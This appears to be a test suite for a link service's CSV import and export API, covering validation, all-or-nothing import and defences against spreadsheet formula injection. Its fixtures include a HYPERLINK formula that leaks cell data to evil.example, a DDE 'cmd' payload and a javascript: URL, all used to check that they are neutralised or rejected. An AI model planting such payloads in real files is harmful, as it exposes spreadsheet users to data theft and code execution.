// Links CSV import (all or nothing, every bad row reported) and export (with counters).
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { stringify as stringifyCsv } from "csv-stringify/sync";
import { ManualClock } from "./helpers/clock.ts";
import { sdkHeaders } from "./helpers/sdk.ts";
import {
  adminHeaders,
  assertError,
  call,
  createProject,
  startTestServer,
} from "./helpers/server.ts";

const srv = await startTestServer({ clock: new ManualClock("2026-04-01T00:00:00Z") });
Deno.test.afterAll(() => srv.close());

const project = await createProject(srv.url);
const env = project.productionId;

function importCsv(csv: string, contentType = "text/csv", projectId = env) {
  return call(srv.url, "POST", `/api/v1/projects/${projectId}/links/import`, {
    headers: { ...adminHeaders, "Content-Type": contentType },
    raw: csv,
  });
}
async function count(): Promise<number> {
  const [row] = await srv.sql<{ n: number }[]>`select count(*)::int as n from links`;
  return row!.n;
}

const HEADER =
  "path,title,subtitle,image,data,tags,ios_url,ios_open_app,android_url,android_open_app," +
  "desktop_url,show_preview_ios,show_preview_android,tracking_campaign,tracking_source," +
  "tracking_medium,expires_at,max_views,expired_url";

Deno.test("import: every column, paths kept, random paths drawn; 201 with the count", async () => {
  const csv = [
    HEADER,
    'fdl-poster,"Poster, big","A ""quoted"" one",https://img.example/p.png,"{""promo"":""x""}",' +
    '"[""print"",""spring""]",https://ios.example/,true,https://android.example/,false,' +
    "https://desk.example/,true,false,spring,poster,print,2027-01-01T00:00:00Z,50,https://over.example/",
    ",Second,,,,,,,,,,,,,,,,,",
  ].join("\r\n") + "\r\n";
  const res = await importCsv(csv);
  assert.equal(res.status, 201, res.text);
  assert.deepEqual(res.body, { imported: 2 });
  const lookup = await call(srv.url, "GET", "/api/v1/sdk/link/fdl-poster", {
    headers: sdkHeaders(project.key, "production"),
  });
  const link = lookup.body.link;
  assert.equal(link.title, "Poster, big");
  assert.equal(link.subtitle, 'A "quoted" one');
  assert.deepEqual(link.data, { promo: "x" });
  assert.deepEqual(link.tags, ["print", "spring"]);
  assert.deepEqual(link.ios_custom_redirect, {
    url: "https://ios.example/",
    open_app_if_installed: true,
  });
  assert.deepEqual(link.android_custom_redirect, {
    url: "https://android.example/",
    open_app_if_installed: false,
  });
  assert.deepEqual(link.desktop_custom_redirect, { url: "https://desk.example/" });
  assert.equal(link.show_preview, true);
  assert.equal(link.tracking_medium, "print");
  assert.equal(link.generated_from_platform, "Import");
  assert.equal(link.sdk_generated, false);
  const managed = await call(srv.url, "GET", `/api/v1/projects/${env}/links?q=fdl-poster`, {
    headers: adminHeaders,
  });
  assert.equal(managed.body.links[0].max_views, 50);
  assert.equal(managed.body.links[0].expires_at, "2027-01-01T00:00:00.000Z");
  assert.equal(managed.body.links[0].expired_url, "https://over.example/");
  const second = await call(srv.url, "GET", `/api/v1/projects/${env}/links?q=Second`, {
    headers: adminHeaders,
  });
  assert.equal(second.body.links[0].path.length, 10);
  // A header-only file imports nothing, and a column order of one's own is fine.
  assert.deepEqual((await importCsv("title,path\nReordered,reordered-1\n")).body, { imported: 1 });
});

Deno.test("import: bad rows reject the whole file, each reported by row and field", async () => {
  await call(srv.url, "POST", `/api/v1/projects/${env}/links`, {
    headers: adminHeaders,
    body: { path: "already-here" },
  });
  const gone = await call(srv.url, "POST", `/api/v1/projects/${env}/links`, {
    headers: adminHeaders,
    body: { path: "deleted-before" },
  });
  await call(srv.url, "DELETE", `/api/v1/projects/${env}/links/${gone.body.link.path}`, {
    headers: adminHeaders,
  });
  const before = await count();
  const csv = [
    "path,title,image,data,tags,ios_open_app,max_views,expires_at",
    "good-one,Fine,,,,,,", // row 1
    "bad path,x,,,,,,", // row 2
    "ok-2,x,javascript:alert(1),,,,,", // row 3
    'ok-3,x,,"[1]",,,,', // row 4
    "ok-4,x,,,not json,,,", // row 5
    "ok-5,x,,,,maybe,0,yesterday", // row 6
    "already-here,x,,,,,,", // row 7
    "deleted-before,x,,,,,,", // row 8
    "good-one,again,,,,,,", // row 9
    "api,x,,,,,,", // row 10
    "short,row", // row 11
  ].join("\n");
  const res = await importCsv(csv);
  assertError({ status: res.status, body: { error: res.body.error } }, 400, "invalid_field");
  const errors = res.body.errors as { row: number; field: string; message: string }[];
  const got = errors.map((e) => `${e.row}:${e.field}`);
  assert.deepEqual(got, [
    "2:path",
    "3:image",
    "4:data",
    "5:tags",
    "6:ios_open_app",
    "6:expires_at",
    "6:max_views",
    "7:path",
    "8:path",
    "9:path",
    "10:path",
    "11:row",
  ]);
  for (const e of errors) assert.ok(e.message.length > 0);
  // Twelve problems in ten rows (row 6 has three): the message counts rows.
  assert.equal(res.body.error.message, "the file has 10 bad rows; nothing was imported");
  assert.equal(await count(), before);
  // The good row was not stored either: all or nothing.
  const none = await call(srv.url, "GET", `/api/v1/projects/${env}/links?q=good-one`, {
    headers: adminHeaders,
  });
  assert.deepEqual(none.body.links, []);
});

Deno.test("import: header, syntax, type and size problems are 4xx, nothing stored", async () => {
  const before = await count();
  const unknown = await importCsv("path,colour\nx,red\n");
  assert.equal(unknown.status, 400);
  assert.deepEqual(unknown.body.errors, [{
    row: 0,
    field: "colour",
    message: "is not a column of the import",
  }]);
  const empty = await importCsv("");
  assert.equal(empty.status, 400);
  assert.equal(empty.body.errors[0].row, 0);
  const quote = await importCsv('path,title\nq-1,"unclosed\n');
  assert.equal(quote.status, 400);
  assert.equal(quote.body.errors[0].field, "file");
  assertError(await importCsv("path\nx\n", "application/json"), 400, "invalid_field");
  assertError(
    await call(srv.url, "POST", `/api/v1/projects/${env}/links/import`, { raw: "path\n" }),
    401,
    "unauthorized",
  );
  assertError(await importCsv("path\nx\n", "text/csv", 999999), 404, "not_found");
  const tooMany = "title\n" + "t\n".repeat(100_001);
  assertError(await importCsv(tooMany), 413, "payload_too_large");
  assert.equal(await count(), before);
});

Deno.test("export: every link with state and counters, as CSV an import reads back", async () => {
  const p = await createProject(srv.url, { name: "Exporter" });
  await importCsv(
    'path,title,tags,desktop_url\nexp-a,A,"[""t""]",https://a.example/\nexp-b,"B, with comma",,\n',
    "text/csv",
    p.productionId,
  );
  await call(srv.url, "GET", "/exp-a", { headers: { "User-Agent": "Mozilla/5.0" } });
  await call(srv.url, "GET", "/exp-a", { headers: { "User-Agent": "Mozilla/5.0" } });
  await srv.views.flush();
  await call(srv.url, "PATCH", `/api/v1/projects/${p.productionId}/links/exp-b`, {
    headers: adminHeaders,
    body: { archived: true },
  });
  const res = await fetch(`${srv.url}/api/v1/projects/${p.productionId}/links/export`, {
    headers: adminHeaders,
  });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
  const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
  assert.equal(rows.length, 2);
  const [a, b] = rows;
  assert.equal(a!.path, "exp-a");
  assert.equal(a!.tags, '["t"]');
  assert.equal(a!.desktop_url, "https://a.example/");
  assert.equal(a!.state, "active");
  assert.equal(a!.total_views, "2");
  assert.equal(a!.total_revenue, "0");
  assert.equal(b!.title, "B, with comma");
  assert.equal(b!.state, "archived");
  assert.deepEqual(Object.keys(a!).slice(-13), [
    "id",
    "created_at",
    "updated_at",
    "state",
    "total_views",
    "total_opens",
    "total_installs",
    "total_reinstalls",
    "total_time_spent",
    "total_reactivations",
    "total_app_opens",
    "total_user_referred",
    "total_revenue",
  ]);
  assertError(
    await call(srv.url, "GET", "/api/v1/projects/999999/links/export", { headers: adminHeaders }),
    404,
    "not_found",
  );
});

/** A cell a spreadsheet would run as a formula (OWASP): = + - @, tab or CR first, not a number. */
function runsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9]+(\.[0-9]+)?$/.test(cell);
}

Deno.test("export: every text cell is safe in a spreadsheet, and its import gives the links back exactly", async () => {
  const p = await createProject(srv.url, { name: "Formulas" });
  const hostile = '=HYPERLINK("https://evil.example/?x="&A2,"Open")';
  // Through the SDK key an app ships with, as the attack in issue 32 goes.
  const sdkLink = await call(srv.url, "POST", "/api/v1/sdk/generate_link", {
    headers: sdkHeaders(p.key, "production"),
    body: {
      title: hostile,
      subtitle: "+1 for you",
      tags: JSON.stringify(["=cmd|' /C calc'!A0", "-x", "plain"]),
      data: JSON.stringify({ k: "=v" }),
      tracking_campaign: "@launch",
      tracking_source: "\tsource",
      tracking_medium: "\rmedium",
    },
  });
  assert.equal(sdkLink.status, 200, sdkLink.text);
  const titles = [
    "-5% off everything",
    "=1+1",
    "'quoted already",
    "'=escaped by hand",
    "''-two apostrophes",
    "-12",
    "Plain title",
    "@",
    "'",
  ];
  for (const title of titles) {
    const res = await call(srv.url, "POST", `/api/v1/projects/${p.productionId}/links`, {
      headers: adminHeaders,
      body: { title, subtitle: title, tracking_campaign: title, tags: [title] },
    });
    assert.equal(res.status, 201, res.text);
  }

  const exported = await call(srv.url, "GET", `/api/v1/projects/${p.productionId}/links/export`, {
    headers: adminHeaders,
  });
  assert.equal(exported.status, 200);
  const records = parse(exported.text) as string[][];
  assert.equal(records.length, 1 + 1 + titles.length);
  const unsafe = records.flatMap((r, i) => r.filter(runsAsFormula).map((c) => `row ${i}: ${c}`));
  assert.deepEqual(unsafe, []);
  const header = records[0]!;
  const titleCells = records.slice(1).map((r) => r[header.indexOf("title")]);
  assert.ok(titleCells.includes(`'${hostile}`));
  assert.ok(titleCells.includes("'-5% off everything"));
  // A text starting with an apostrophe keeps it: only the one the export added goes on import.
  assert.ok(titleCells.includes("'quoted already"));
  assert.ok(titleCells.includes("''=escaped by hand"));
  // A plain number is a number in a spreadsheet, not a formula: written as it is.
  assert.ok(titleCells.includes("-12"));

  // The export imported into the test environment (paths left to be drawn: paths are unique
  // across the instance): every field comes back as it was.
  const pathColumn = header.indexOf("path");
  const reimport = stringifyCsv(
    records.map((r, i) => r.map((cell, j) => i > 0 && j === pathColumn ? "" : cell)),
  );
  const imported = await importCsv(reimport, "text/csv", p.testId);
  assert.equal(imported.status, 201, imported.text);
  assert.deepEqual(imported.body, { imported: 1 + titles.length });
  const fields = (l: Record<string, unknown>) => ({
    title: l.title,
    subtitle: l.subtitle,
    data: l.data,
    tags: l.tags,
    tracking_campaign: l.tracking_campaign,
    tracking_source: l.tracking_source,
    tracking_medium: l.tracking_medium,
  });
  const list = async (id: number) => {
    const res = await call(srv.url, "GET", `/api/v1/projects/${id}/links?limit=100`, {
      headers: adminHeaders,
    });
    assert.equal(res.status, 200, res.text);
    return (res.body.links as Record<string, unknown>[]).map(fields)
      .sort((a, b) => String(a.title).localeCompare(String(b.title)));
  };
  const before = await list(p.productionId);
  assert.deepEqual(await list(p.testId), before);
  assert.ok(before.some((l) => l.title === hostile && l.tracking_medium === "\rmedium"));
  assert.ok(before.some((l) => l.title === "'=escaped by hand"));
});
